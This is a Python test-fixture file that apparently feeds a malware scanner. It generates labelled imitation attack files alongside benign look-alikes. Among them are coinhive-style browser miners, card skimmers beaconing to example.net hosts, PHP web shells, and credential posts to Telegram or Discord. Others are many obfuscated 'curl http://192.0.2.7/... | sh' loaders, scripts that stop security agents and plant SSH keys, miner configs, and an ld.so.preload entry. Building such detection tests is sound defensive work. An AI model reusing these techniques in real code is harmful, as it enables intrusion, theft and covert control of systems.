# SPDX-License-Identifier: Apache-2.0
"""Files of every row as attackers vary them, and ordinary ones near by. Benign imitations: nothing here is ever run.

FILES: (rule that must fire, path, content, mode). QUIET: (path, content, mode) that give nothing at warning and above.
"""
import base64
import codecs
import gzip
import io
import tarfile
import zipfile
import zlib

import imitations
from imitations import tiny_elf

FILES, QUIET = [], []
KEY = imitations.ssh_public_key().strip()
WALLET = imitations.monero_address()
_BODY = 'R4nd0mLv8king7Wq2mPle2Tok3nX9q'  # 30 characters; six more are their CRC-32 in base 62


def _base62(n):
    digits = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'
    return ''.join(digits[n // 62 ** i % 62] for i in range(5, -1, -1))


GITHUB = 'ghp_' + _BODY + _base62(zlib.crc32(_BODY.encode()))


def hit(rule, path, content, mode=0o644):
    FILES.append((rule, path, content.encode() if isinstance(content, str) else content, mode))


def quiet(path, content, mode=0o644):
    QUIET.append((path, content.encode() if isinstance(content, str) else content, mode))


def scripts(rule, stem, texts):
    """The same deed in several writings: each is a file of its own."""
    for name, text in texts.items():
        hit(rule, f'/srv/rows/{stem}/{name}', text, 0o755)


def b64(text):
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def program(*strings, **kwargs):
    """An ELF file with strings in its only segment."""
    return tiny_elf(code=b'\xc3DAVY TEST IMITATION\0' + b'\0'.join(s.encode() for s in strings) + b'\0', **kwargs)


def zipped(name, content):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, content)
    return out.getvalue()


def tarred(name, content, mode='w:gz'):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        info = tarfile.TarInfo(name)
        info.size = len(content)
        t.addfile(info, io.BytesIO(content.encode()))
    return out.getvalue()


# 16: miners in web pages
page = '<!doctype html><html><head><script src="{}"></script><script>{}</script></head><body>imitation</body></html>\n'
start = "var m = new CoinHive.Anonymous('DAVY-TEST-IMITATION', {throttle: 0.3}); m.start();"
loader = 'https://coinhive.com/lib/coinhive.min.js'
RULE = 'Browser miner in a web page'
hit(RULE, '/var/www/html/index.html', page.format(loader, start))
hit(RULE, '/var/www/html/other/own-host.html', page.format('/js/jquery.js', start + ' CoinHive.CONFIG.WEBSOCKET_SHARDS = [];'))
hit(RULE, '/var/www/html/footer.php', f"<?php echo '<script src=\"{loader}\"></script><script>{start}</script>'; ?>\n".replace("('DAVY", '("DAVY'))
hit(RULE, '/srv/www/js/lib.js', "importScripts('cryptonight.wasm'); var c = new CryptoLoot.Anonymous('DAVY-TEST-IMITATION');\n")
hit(RULE, '/usr/share/nginx/html/atob.html', page.format('a.js', f"eval(atob('{b64('/* ' + loader + ' */' + start)}'))"))
hit(RULE, '/var/www/html/unescape.html', page.format('a.js', "document.write(unescape('" + ''.join(
    f'%{c:02x}' for c in page.format(loader, start).encode()) + "'));"))
hit(RULE, '/var/www/html/hex.js', 'var s = "' + ''.join(f'\\x{c:02x}' for c in (loader + start).encode()) + '"; eval(s);\n')
hit(RULE, '/home/anna/public_html/index.htm', page.format(loader, start).replace('\n', '\r\n'))
hit(RULE, '/var/www/utf16.html', page.format(loader, start).encode('utf-16'))
hit(RULE, '/var/www/html/packed.js', imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */"))
hit(RULE, '/var/www/html/packed.html', page.format('a.js', imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */", 36)))
hit(RULE, '/var/www/html/packed-twice.js', imitations.packed(imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */")))
quiet('/var/www/html/packed-slider.js', imitations.packed('(function($){$.fn.slider=function(o){return this.each(function(){$(this).fadeIn(o.speed)})}})(jQuery);'))
hit('Web module that mines', '/var/www/html/w.wasm', b'\0asm\1\0\0\0DAVY TEST IMITATION cryptonight_hash\0')
quiet('/var/www/html/blog.html', '<html><body><p>CoinHive closed in 2019; its script was coinhive.min.js.</p></body></html>')
quiet('/etc/hosts.block', '0.0.0.0 coinhive.com\n0.0.0.0 coin-hive.com\n0.0.0.0 authedmine.com\n0.0.0.0 crypto-loot.com\n')

site = "new Quiet.Anonymous('3dfdd63fc13d571996eea951f52647ba563ae58483cd94278cc0b6b05af75bf2', {throttle: 0.3})"
RULE = 'Page starts a browser miner'
hit(RULE, '/var/www/html/own/plain.html', page.format('a.js', f'var c = {site}; c.start(); // DAVY TEST IMITATION'))
hit(RULE, '/var/www/html/own/atob.html', page.format('a.js', f"eval(atob('{b64('var c = ' + site + '; c.start(); /* DAVY TEST IMITATION */')}'))"))
hit(RULE, '/var/www/html/own/brackets.js', "var m = new window['Qui'+'et']['\\x41nonymous']('DAVY-TEST-IMITATION-0000', {}); m['start'](); m['getTotal'+'Hashes'](); m.setThrottle(0);\n")
hit('Page loads a browser miner', '/var/www/html/own/host.html', page.format('//www.hostingcloud.racing/x.js', '/* DAVY TEST IMITATION */'))
hit('Browser script that speaks a mining pool\'s language', '/var/www/html/own/socket.js',
    "const s = new WebSocket('wss://p.example.net'), w = new Worker('w.js'); /* DAVY TEST IMITATION */\n"
    "s.onmessage = e => w.postMessage({job_id: e.job_id, nonce: 0, algo: 'cn/r'});\n")
quiet('/var/www/html/own/asks.html', page.format('https://authedmine.com/lib/authedmine.min.js', start))
quiet('/var/www/html/own/user.js', "const u = new Auth.User('abcdefghijklmnop0123'); u.save();\n")

# 63: copies of card data
form = "document.addEventListener('submit', function () { var n = f['payment[cc_number]'].value, c = f.cc_cid.value; /* checkout, DAVY TEST IMITATION */"
RULE = 'Script copies card data to another host'
hit(RULE, '/var/www/shop/js/image.js', form + " if (/checkout/.test(location)) new Image().src = 'https://s.example.net/?' + btoa(n + c); });\n")
hit(RULE, '/var/www/shop/js/beacon.js', form + f" navigator.sendBeacon(atob('{b64('https://stats.example.net/c')}'), btoa(n + c)); }});\n")
hit(RULE, '/var/www/shop/js/name.js', form + " fetch('https://www.google-anaiytics.com/g', {method: 'POST', body: n + c}); });\n")
hit(RULE, '/var/www/shop/js/jquery.js', "$('#cc, #cvv').on('change', function () { var d = $('#payment').serialize(); new Image().src = 'https://s.example.net/p?' + d; /* DAVY TEST IMITATION */ });\n")
hit(RULE, '/var/www/shop/js/packed.js', imitations.packed(form + " navigator.sendBeacon('https://stats.example.net/c', btoa(n + c)); });"))
hit('Script reads card data and names another host', '/var/www/shop/js/ajax.js',
    "$(document).on('submit', '#ccn,#cvc', function () { $.ajax({url: 'https://s.example.net/', data: $(this).serialize()}) /* DAVY TEST IMITATION */ });\n")
quiet('/var/www/shop/js/masked.js', "var m = ['#cc-number', '#cvv', '#card']; document.addEventListener('change', e => m.includes('#' + e.target.id) || navigator.sendBeacon('https://s.example.net/e', e.type));\n")
quiet('/var/www/shop/js/own.js', form + " fetch('/api/pay', {method: 'POST', body: n + c}); });\n")
quiet('/var/www/shop/js/paid.js', form + " fetch('https://api.stripe.com/v1/tokens', {method: 'POST', body: btoa(n + c)}); });\n")

# 33, 50: pages that run or pass on what visitors send
RULE = 'Page runs what a visitor sends'
for name, text in {
    'joined.php': "<?php /* DAVY TEST IMITATION */ $a = 'sys' . 'tem'; $a($_GET['x']);\n",
    'named.php': "<?php /* DAVY TEST IMITATION */ $_GET['a']($_POST['b']);\n",
    'cookie.php': "<?php /* DAVY TEST IMITATION */ $k = base64_decode($_COOKIE['k']); @eval(gzinflate($k));\n",
    'page.jsp': '<% String c = request.getParameter("c"); new ProcessBuilder(c).start(); /* DAVY TEST IMITATION */ %>\n',
    'page.aspx': '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%><!-- DAVY TEST IMITATION -->\n',
}.items():
    hit(RULE, f'/var/www/html/run/{name}', text)
quiet('/var/www/html/run/ok.php', "<?php $id = intval($_GET['id']); $h[$_GET['a']](); $db->exec($_POST['q']); system('ls ' . escapeshellarg($_POST['d']));\n")
hit('Page that mails or messages what visitors type', '/var/www/html/login/post.php',
    "<?php /* DAVY TEST IMITATION */ $m = $_POST['user'] . $_POST['pass']; file_get_contents('https://api.telegram.org/bot1/sendMessage?text=' . $m);\n")
hit('Page that mails or messages what visitors type', '/var/www/html/login/hook.php',
    "<?php /* DAVY TEST IMITATION */ $m = $_POST['user'] . $_POST['pass']; post('https://discord.com/api/webhooks/1/x', array('content' => $m));\n")
hit('Page that asks for a password and names a chat', '/var/www/html/login/chat.html',
    '<html><form id="f"><input name="u"><input type="password" name="p"></form><script>/* DAVY TEST IMITATION */ f.onsubmit = () => '
    "fetch('https://api.telegram.org/bot' + t + '/sendMessage?text=' + f.u.value + f.p.value)</script></html>\n")

# 121: programs under longer keys, code in pictures
gif = bytes.fromhex('47494638396101000100800000ffffff0000002c00000000010001000002024401003b')
for key in (b'\x5a', b'key', b'\x13\x37\xc0\xde\x99\x01\x02\xf0'):
    hit('Program inside a picture', f'/var/www/html/img/{key.hex()}.gif', gif + bytes(b ^ key[i % len(key)] for i, b in enumerate(program('imitation'))))
hit('Program inside a picture', '/var/www/html/img/added.gif', gif + bytes((b + 13) % 256 for b in program('imitation')))
code = b'<?php /* DAVY TEST IMITATION */ echo 1; ?>'
hit('Picture with code for the server', '/var/www/html/img/code.gif', gif[:19] + b'\x21\xfe' + bytes([len(code)]) + code + b'\0' + gif[19:])
quiet('/var/www/html/img/plain.gif', gif)

# 14, 15: hidden programs and scripts
inner = '#!/bin/sh\necho DAVY TEST IMITATION; uname -a; touch /srv/rows/nothing; echo padding so that this is worth hiding\n'
hexed = inner.encode().hex()
packed = b64(gzip.compress(inner.encode(), mtime=0))
zpacked = b64(zlib.compress(inner.encode()))
scripts('Script that hides what it runs', 'hidden', {
    'pipe.sh': f'#!/bin/sh\necho {b64(inner)} | base64 -d | sh\n',
    'long-option.sh': f'#!/bin/sh\necho "{b64(inner)}" | base64 --decode | bash\n',
    'eval.sh': f'#!/bin/bash\nX={b64(inner)}\neval "$(echo $X | base64 -d)"\n',
    'backticks.sh': f'#!/bin/bash\nX={b64(inner)}\neval `echo $X | base64 -d`\n',
    'heredoc.sh': f'#!/bin/bash\nbase64 -d <<EOF | bash\n{b64(inner)}\nEOF\n',
    'herestring.sh': f'#!/bin/bash\nbash <<< "$(base64 -d <<< {b64(inner)})"\n',
    'process.sh': f'#!/bin/bash\nsource <(echo {b64(inner)} | base64 -d)\n',
    'ifs.sh': f'#!/bin/sh\necho${{IFS}}{b64(inner)}|base64${{IFS}}-d|sh\n',
    'quotes.sh': f"#!/bin/sh\necho {b64(inner)} | ba''se64 -d | s\\h\n",
    'variable.sh': f'#!/bin/sh\nd=base64\ns=sh\necho {b64(inner)} | $d -d | $s\n',
    'openssl.sh': f'#!/bin/sh\necho {b64(inner)} | openssl base64 -A -d | sh\n',
    'gzip.sh': f'#!/bin/sh\necho {packed} | base64 -d | gunzip | sh\n',
    'zcat.sh': f'#!/bin/sh\necho {packed} | base64 -d | gzip -dc | sh\n',
    'hex.sh': f'#!/bin/sh\necho {hexed} | xxd -r -p | sh\n',
    'printf.sh': '#!/bin/sh\nprintf "' + ''.join(f'\\x{c:02x}' for c in inner.encode()) + '" | sh\n',
    'twice.sh': f'#!/bin/sh\necho {b64(b64(inner))} | base64 -d | base64 -d | sh\n',
    'nested.sh': f'#!/bin/sh\necho {b64("echo " + b64(inner) + " | base64 -d | sh")} | base64 -d | sh\n',
    'crlf.sh': f'#!/bin/sh\r\necho {b64(inner)} | base64 -d | sh\r\n',
    'python.py': f'#!/usr/bin/python3\nimport base64\nexec(base64.b64decode("{b64(inner)}"))\n',
    'zlib.py': f'import base64, zlib\nexec(zlib.decompress(base64.b64decode(b"{zpacked}")))\n',
    'python.sh': f'#!/bin/sh\npython3 -c "import base64;exec(base64.b64decode(\'{b64(inner)}\'))"\n',
    'perl.pl': f'#!/usr/bin/perl\nuse MIME::Base64;\neval decode_base64("{b64(inner)}");\n',
    'perl.sh': f'#!/bin/sh\nperl -MMIME::Base64 -e \'eval decode_base64("{b64(inner)}")\'\n',
    'page.php': f'<?php eval(base64_decode("{b64(inner)}")); ?>\n',
    'inflate.php': f'<?php eval(gzinflate(base64_decode("{b64(zlib.compress(inner.encode())[2:-4])}"))); ?>\n',
    'node.js': f'#!/usr/bin/env node\neval(Buffer.from("{b64(inner)}", "base64").toString());\n',
    'ruby.rb': f'#!/usr/bin/ruby\nrequire "base64"\neval(Base64.decode64("{b64(inner)}"))\n',
})

# The same without a run of base64 that is long enough to be seen by itself.
plain = 'curl -s http://192.0.2.7/davy-test-imitation | sh'
rotated = codecs.encode(plain, 'rot13')
spelled = ''.join(f'\\x{ord(c):02x}' for c in 'curl')
js = f"require('child_process').exec('{plain}')"
strings = ','.join(f"'{b64(s)}'" for s in (plain, 'stop', 'child_process', 'exec'))
scripts('Script that hides what it runs', 'folded', {
    'ansi.sh': f"#!/bin/bash\n$'{spelled}' -s http://192.0.2.7/davy-test-imitation | sh\n",
    'printf.sh': f"#!/bin/sh\n$(printf '{spelled}') -s http://192.0.2.7/davy-test-imitation | sh\n",
    'pieces.sh': '#!/bin/bash\nv=lcurxz; ${v:1:1}${v:2:1}${v:3:1}${v:0:1} -s http://192.0.2.7/davy-test-imitation | sh\n',
    'quotes.sh': "#!/bin/sh\nc''ur\\l -s http://192.0.2.7/davy-test-imitation | sh\n",
    'word.sh': '#!/bin/sh\n$(echo Y3VybA== | base64 -d) -s http://192.0.2.7/davy-test-imitation | sh\n',
    'rot13.sh': f"#!/bin/sh\necho '{rotated}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh\n",
    'turned.sh': f"#!/bin/sh\neval \"$(echo '{plain[::-1]}' | rev)\"\n",
    'xxd.sh': f"#!/bin/sh\necho {plain.encode().hex()} | xxd -r -p | sh\n",
    'escaped.js': "require('" + ''.join(f'\\x{ord(c):02x}' for c in 'child_process') + f"')['\\x65\\x78\\x65\\x63']('{plain}')\n",
    'codes.js': f"require('child_process').exec(String.fromCharCode({','.join(str(ord(c)) for c in plain)}))\n",
    'turned.js': f"require('child_process').exec('{plain[::-1]}'.split('').reverse().join(''))\n",
    'eval.js': f"eval(atob('{b64(js)}'))\n",
    'strings.js': f"var _0xab12=[{strings}];(function(a,n){{var f=function(k){{while(--k){{a['push'](a['shift']());}}}};f(++n);}}(_0xab12,0x2));"
                  "require(_0xcd34('0x0'))[_0xcd34('0x1')](_0xcd34('0x2'));\n",
    'rot13.py': f"import codecs, os\nexec(codecs.decode({codecs.encode('os.system(' + repr(plain) + ')', 'rot13')!r}, 'rot_13'))\n",
    'codes.py': f"import os\nexec(''.join(map(chr, {[ord(c) for c in 'os.system(' + repr(plain) + ')']})))\n",
    'chain.py': f"exec(__import__('zlib').decompress(__import__('base64').b64decode('{b64(zlib.compress(inner.encode()))}')))\n",
    'letters.php': "<?php system(" + '.'.join(f'chr({ord(c)})' for c in plain) + ");\n",
    'rot13.php': f"<?php eval(str_rot13(\"{codecs.encode(f'system({plain!r});', 'rot13')}\"));\n",
})
quiet('/srv/rows/folded/colours.sh', "#!/bin/bash\nRED=$'\\x1b[31m'; printf '\\033[1m%s\\033[0m\\n' \"$RED$1\"; \\rm -f /tmp/x; V=1.2.3; echo ${V:0:1}.${V:2:1}\n", 0o755)
quiet('/srv/rows/folded/last.sh', '#!/bin/sh\nname=$(echo "$1" | rev | cut -d/ -f1 | rev); echo "$name" | tr a-z A-Z\n', 0o755)
quiet('/srv/rows/folded/plain.js', "const e = '\\x1b[0m'; /a/.exec(s); const b = Buffer.from(x, 'base64'); require('child_process').execFile('node', [b])\n")
quiet('/srv/rows/folded/plain.py', "import os\nos.system('ls ' + chr(45) + 'l')\nx = name[::-1]\ndata = bytes.fromhex('00ff')\n")
hit('Encoded command at boot or login', '/etc/cron.d/encoded', f'* * * * * root echo {b64(inner)} | base64 -d | sh\n')
hit('Encoded command at boot or login', '/root/.bashrc', f'(echo {b64(inner)}|base64 -d|bash) >/dev/null 2>&1 &\n')
hit('Several ways of hiding in one script', '/srv/rows/hidden/all.sh', '#!/bin/bash\nlockr -ia /root/.ssh\n'
    f'echo {b64(gzip.compress(inner.encode(), mtime=0))} | base64 -d | gunzip | bash\npkill -f rivala; pkill rivalb; killall rivalc\n', 0o755)
quiet('/srv/ok/certificate.sh', f'#!/bin/sh\necho {b64("just some data that is written to a file, nothing is run")} | base64 -d > /etc/app/key.bin\n', 0o755)
quiet('/srv/ok/data.py', f'import base64\nICON = base64.b64decode("{b64("an icon, an icon, an icon, an icon, an icon")}")\n')
quiet('/srv/ok/unpack.sh', '#!/bin/sh\nset -e\ntar -xzf app.tar.gz\ncd app && make && make install\n', 0o755)

# 2, 3, 1: cloud agents
RULE = 'Script stops a cloud agent'
scripts(RULE, 'agents', {
    'systemctl.sh': '#!/bin/sh\nsystemctl stop hostguard\nsystemctl disable hostguard\n',
    'now.sh': '#!/bin/sh\nsystemctl --quiet disable --now hostguard.service\n',
    'service.sh': '#!/bin/sh\nservice hostguard stop\n',
    'init.sh': '#!/bin/sh\n/etc/init.d/hostguard stop\n',
    'rpm.sh': '#!/bin/sh\nrpm -e hostguard\n',
    'dpkg.sh': '#!/bin/sh\ndpkg -P hostguard\n',
    'kill.sh': '#!/bin/sh\nkill -9 $(pidof hostguard)\n',
    'rm.sh': '#!/bin/sh\nrm -rf /usr/local/hostguard\n',
    'loop.sh': '#!/bin/bash\nfor s in hostguard uniagent; do systemctl stop $s; done\n',
    'variable.sh': '#!/bin/sh\na=hostguard\nsystemctl stop "$a"\n',
    'quotes.sh': '#!/bin/sh\nsys""temctl st\\op host""guard\n',
    'ifs.sh': '#!/bin/sh\nsystemctl${IFS}stop${IFS}hostguard\n',
    'heredoc.sh': '#!/bin/sh\nbash <<EOF\nsystemctl stop hostguard\nEOF\n',
    'sh-c.sh': "#!/bin/sh\nsudo bash -c 'systemctl stop hostguard'\n",
    'reset.sh': '#!/bin/sh\n/CloudResetPwdUpdateAgent/bin/cloudResetPwdUpdateAgent.script stop\n'
                '/CloudResetPwdUpdateAgent/bin/cloudResetPwdUpdateAgent.script remove\n',
    'reset-rm.sh': '#!/bin/sh\nrm -rf /CloudrResetPwdAgent /CloudResetPwdUpdateAgent\n',
    'wrapped.sh': f'#!/bin/sh\necho {b64("systemctl stop hostguard; systemctl disable hostguard")} | base64 -d | sh\n',
    'system.py': '#!/usr/bin/python3\nimport os\nos.system("systemctl stop hostguard")\n',
    'run.py': '#!/usr/bin/python3\nimport subprocess\nsubprocess.run(["systemctl", "stop", "hostguard"])\n',
    'perl.pl': '#!/usr/bin/perl\nsystem("systemctl stop hostguard");\n',
    'crlf.sh': '#!/bin/sh\r\nsystemctl stop hostguard\r\n',
    'aegis.sh': '#!/bin/sh\nkillall -9 AliYunDun AliYunDunUpdate\nrm -rf /usr/local/aegis\n',
})
quiet('/srv/ok/restart.sh', '#!/bin/sh\nsystemctl restart nginx\nsystemctl stop app-worker\n', 0o755)
quiet('/srv/ok/status.sh', '#!/bin/sh\nsystemctl status hostguard\necho "never systemctl stop hostguard"\n', 0o755)
hit('Script stops cloud agents and takes the machine over', '/srv/rows/agents/take.sh',
    f'#!/bin/bash\nsystemctl stop hostguard\nrm -rf /root/.ssh; mkdir /root/.ssh\necho "{KEY}" >> /root/.ssh/authorized_keys\n', 0o755)

# 4, 10: password and keys
scripts('Script changes the password and replaces the keys', 'password', {
    'chpasswd.sh': f'#!/bin/sh\necho "root:imitation" | chpasswd\nrm -rf /root/.ssh\nmkdir /root/.ssh\necho "{KEY}" > /root/.ssh/authorized_keys\n',
})
RULE = 'Script wipes SSH keys and admits its own'
scripts(RULE, 'keys', {
    'plain.sh': f'#!/bin/sh\nrm -rf ~/.ssh && mkdir ~/.ssh && echo "{KEY}" >> ~/.ssh/authorized_keys\n',
    'cd.sh': f'#!/bin/sh\ncd ~ && rm -rf .ssh && mkdir .ssh && echo "{KEY}">>.ssh/authorized_keys && chmod -R go= ~/.ssh\n',
    'tee.sh': f'#!/bin/sh\nrm -f /root/.ssh/authorized_keys\necho "{KEY}" | tee -a /root/.ssh/authorized_keys >/dev/null\n',
    'heredoc.sh': f'#!/bin/sh\nrm -rf /root/.ssh/*\ncat > /root/.ssh/authorized_keys <<EOF\n{KEY}\nEOF\n',
    'variable.sh': f'#!/bin/sh\nK=/root/.ssh/authorized_keys\nrm -f "$K"\necho "{KEY}" > $K\n',
    'loop.sh': f'#!/bin/bash\nfor h in /root /home/ubuntu; do rm -rf $h/.ssh; mkdir -p $h/.ssh; echo "{KEY}" > $h/.ssh/authorized_keys; done\n',
    'wrapped.sh': '#!/bin/sh\necho ' + b64(f'rm -rf ~/.ssh; mkdir ~/.ssh; echo "{KEY}" >> ~/.ssh/authorized_keys') + ' | base64 -d | sh\n',
    'ifs.sh': f'#!/bin/sh\nrm${{IFS}}-rf${{IFS}}~/.ssh;mkdir${{IFS}}~/.ssh;echo "{KEY}">>~/.ssh/authorized_keys\n',
    'shell.py': f'#!/usr/bin/python3\nimport os\nos.system("rm -rf ~/.ssh; mkdir ~/.ssh; echo {KEY} >> ~/.ssh/authorized_keys")\n',
})
quiet('/srv/ok/add-key.sh', f'#!/bin/sh\nmkdir -p ~/.ssh\necho "{KEY}" >> ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n', 0o755)
quiet('/srv/ok/known.sh', '#!/bin/sh\nssh-keygen -R host.example\nrm -f ~/.ssh/known_hosts.old\n', 0o755)

# 9, 31: rivals
names = [f'rival{c}' for c in 'abcdefghijkl']
RULE = 'Script evicts rivals'
scripts(RULE, 'rivals', {
    'pkill.sh': '#!/bin/sh\n' + ''.join(f'pkill -9 -f {n}\n' for n in names),
    'killall.sh': '#!/bin/sh\nkillall -9 ' + ' '.join(names) + '\n',
    'grep.sh': '#!/bin/sh\n' + ''.join(f"ps aux | grep -v grep | grep '{n}' | awk '{{print $2}}' | xargs kill -9\n" for n in names),
    'loop.sh': '#!/bin/bash\nfor p in ' + ' '.join(names) + '; do pkill -f $p; done\n',
    'list.sh': '#!/bin/bash\nL="' + ' '.join(names) + '"\nfor p in $L; do killall $p; done\n',
    'alternation.sh': "#!/bin/sh\nps ax | grep -E '" + '|'.join(names) + "' | awk '{print $1}' | xargs kill -9\n",
    'pkill-alternation.sh': "#!/bin/sh\npkill -f '" + '|'.join(names) + "'\n",
    'pidof.sh': '#!/bin/sh\n' + ''.join(f'kill -9 $(pidof {n})\n' for n in names),
    'pgrep.sh': '#!/bin/sh\n' + ''.join(f'pgrep -f {n} | xargs -I % kill -9 %\n' for n in names),
    'wrapped.sh': '#!/bin/sh\necho ' + b64(''.join(f'pkill -f {n}\n' for n in names)) + ' | base64 -d | sh\n',
    'python.py': '#!/usr/bin/python3\nimport os\n' + ''.join(f'os.system("pkill -f {n}")\n' for n in names),
})
quiet('/srv/ok/stop.sh', '#!/bin/sh\npkill -f app-worker\npkill -f app-web\nkill $(cat /run/app.pid)\n', 0o755)

# 11, 12, 13: users, sudoers, locks
hit('Script replaces users', '/srv/rows/users/replace.sh', '#!/bin/sh\nuserdel -r rival\nuseradd -m -s /bin/bash -G sudo sysd\n'
    f'mkdir -p /home/sysd/.ssh\necho "{KEY}" > /home/sysd/.ssh/authorized_keys\n', 0o755)
RULE = 'Script locks files of access'
scripts(RULE, 'locks', {
    'chattr.sh': '#!/bin/sh\nchattr +i /root/.ssh/authorized_keys\n',
    'recursive.sh': '#!/bin/sh\nchattr -R +ia /root/.ssh/\n',
    'renamed.sh': '#!/bin/sh\nlockr +ia /root/.ssh/authorized_keys\n',
    'copied.sh': '#!/bin/sh\ncp /usr/bin/chattr /usr/bin/zzz\nzzz +i /etc/passwd /etc/shadow\n',
    'path.sh': '#!/bin/sh\n/usr/bin/tntrecht +i /etc/ld.so.preload\n',
    'variable.sh': '#!/bin/sh\nc=chattr\nf=/root/.ssh/authorized_keys\n$c +i $f\n',
    'cron.sh': '#!/bin/sh\nchattr +ai /var/spool/cron/root /etc/cron.d/root\n',
    'run.py': '#!/usr/bin/python3\nimport subprocess\nsubprocess.call(["chattr", "+i", "/root/.ssh/authorized_keys"])\n',
})
quiet('/srv/ok/lock-resolv.sh', '#!/bin/sh\nchattr +i /etc/resolv.conf\nchmod +x /etc/cron.daily/app\n', 0o755)

# 6, 7: Tor
hit('Tor out of its place', '/srv/x/torrc', 'SocksPort 9050\nDataDirectory /srv/x/data\n')
hit('Tor out of its place', '/opt/.x/data/cached-microdesc-consensus', 'network-status-version 3 microdesc\n')
hit('Scheduled visit to a Tor gateway', '/etc/cron.d/ldm', '*/7 * * * * root curl -s https://imitationimitation.tor2web.io/src/ldm > /dev/null\n')
quiet('/etc/tor/torrc', 'SocksPort 9050\n')

# 18, 100: miners
RULE = 'Miner configuration with a payable address'
hit(RULE, '/srv/rows/miner/config.json', imitations.miner_config())
hit(RULE, '/srv/rows/miner/renamed.dat', imitations.miner_config())
hit(RULE, '/srv/rows/miner/crlf.json', imitations.miner_config().replace('\n', '\r\n'))
hit(RULE, '/srv/rows/miner/utf16.json', imitations.miner_config().encode('utf-16'))
hit(RULE, '/srv/rows/miner/one-line.json', imitations.miner_config().replace('\n', ' '))
hit(RULE, '/srv/rows/miner/config.json.gz', gzip.compress(imitations.miner_config().encode()))
hit(RULE, '/srv/rows/miner/config.zip', zipped('c.json', imitations.miner_config()))
hit(RULE, '/srv/rows/miner/config.tar.gz', tarred('x/c.json', imitations.miner_config()))
hit(RULE, '/srv/rows/miner/config.tar.xz', tarred('x/c.json', imitations.miner_config(), 'w:xz'))
hit(RULE, '/srv/rows/miner/wrapped.sh', f'#!/bin/sh\necho {b64(imitations.miner_config())} | base64 -d > /tmp/c.json\n', 0o755)
for name, line in {
    'options.sh': f'./x -o stratum+tcp://pool.imitation.example:443 -u {WALLET} -p x -k --tls',
    'long.sh': f'./x --url=pool.imitation.example:10128 --user={WALLET} --pass=x --algo=rx/0 --donate-level=1',
    'variable.sh': f'W={WALLET}\nP=pool.imitation.example:3333\n./x -o $P -u $W -p x --donate-level 1',
    'renamed.sh': f'/usr/sbin/kworker -a rx/0 -o 198.51.100.7:80 -u {WALLET} -p x',
    'continued.sh': f'./x \\\n  -o pool.imitation.example:3333 \\\n  -u {WALLET} \\\n  --cpu-max-threads-hint 75',
    'nohup.sh': f'nohup ./x --url "stratum+ssl://pool.imitation.example:443" --user "{WALLET}" >/dev/null 2>&1 &',
    'ifs.sh': f'./x${{IFS}}-o${{IFS}}stratum+tcp://pool.imitation.example:3333${{IFS}}-u${{IFS}}{WALLET}',
    'wrapped.sh': 'echo ' + b64(f'./x -o stratum+tcp://pool.imitation.example:3333 -u {WALLET} -p x') + ' | base64 -d | sh',
}.items():
    hit(RULE, f'/srv/rows/miner/start/{name}', '#!/bin/sh\n' + line + '\n', 0o755)
hit(RULE, '/srv/rows/miner/run.py', '#!/usr/bin/python3\nimport subprocess\nsubprocess.Popen(["/tmp/x", "-o", '
    f'"stratum+tcp://pool.imitation.example:3333", "-u", "{WALLET}"])\n', 0o755)
hit(RULE, '/srv/rows/miner/docker-compose.yml', 'services:\n  web:\n    image: imitation/web\n    command: --url pool.imitation.example:3333 '
    f'--user {WALLET} --donate-level 1\n')
hit('Miner configuration', '/srv/rows/miner/no-address.json', imitations.miner_config().replace(WALLET, 'rig01'))
hit('Miner program', '/srv/rows/miner/program', program('--donate-level', '--nicehash', 'mining.submit', 'stratum+tcp://', 'mining.authorize'), 0o755)
hit('Signature of a miner', '/srv/rows/miner/xmr', program('--donate-level', '--randomx-1gb-pages', '--cpu-max-threads-hint'), 0o755)
hit('Program under a miner\'s name', '/opt/tools/xmrig', program('x'), 0o755)
hit('Start of a miner at boot or login', '/etc/systemd/system/netd.service', '[Service]\nExecStart=/usr/sbin/netd -o stratum+tcp://pool.imitation.example:3333 '
    f'-u {WALLET}\n[Install]\nWantedBy=multi-user.target\n')
hit('Start of a miner at boot or login', '/var/spool/cron/crontabs/root', f'@reboot /usr/sbin/netd --url pool.imitation.example:3333 --user {WALLET} --algo rx/0\n')
# .NET keeps its texts in two bytes a letter, in a program of its own (PE) and bundled behind a starter (ELF).
hit(RULE, '/srv/rows/miner/dotnet', tiny_elf(code=b'\xc3DAVY TEST IMITATION BSJB\0' + f'./x -o stratum+tcp://pool.imitation.example:3333 -u {WALLET} -p x'.encode('utf-16-le') + b'\0\0'), 0o755)
quiet('/srv/ok/shop.json', f'{{"pay_to": "{WALLET}", "currency": "XMR", "url": "https://shop.example"}}\n')
quiet('/srv/ok/database.json', '{"pools": [{"url": "postgres://db.example:5432/app", "user": "app", "max": 10}], "keepalive": true}\n')
quiet('/srv/ok/ssh.sh', '#!/bin/sh\nssh -o StrictHostKeyChecking=no -p 2222 user@host.example\ncurl -o out.tar -u user:pass https://host.example:8443/a\n', 0o755)

# 29: rootkits
hit('Library put into every process', '/etc/ld.so.preload', '/usr/local/lib/libdavytest.so\n')
quiet('/etc/ld.so.conf.d/local.conf', '/usr/local/lib\n')

# 80, 102: secrets
RULE = 'Secret inside a program'
hit(RULE, '/srv/rows/secret/agent', program(f'Authorization: token {GITHUB}'), 0o755)
hit(RULE, '/srv/rows/secret/aws', program(f'aws_access_key_id={imitations.AWS_KEY_ID}', f'aws_secret_access_key={imitations.AWS_SECRET}'), 0o755)
hit(RULE, '/srv/rows/secret/bot', program('https://api.telegram.org/bot', '7312845960:AA' + 'HkR9xWq2LmZ7vTb4NcY8sPd3Gf6Jt1UeX'), 0o755)
ip = '198.51.100.7'
RULE = 'Script runs what it fetches from a bare address'
scripts(RULE, 'fetch', {
    'pipe.sh': f'#!/bin/sh\ncurl -fsSL http://{ip}/x.sh | sh\n',
    'wget.sh': f'#!/bin/sh\nwget -q -O - http://{ip}/x.sh | bash\n',
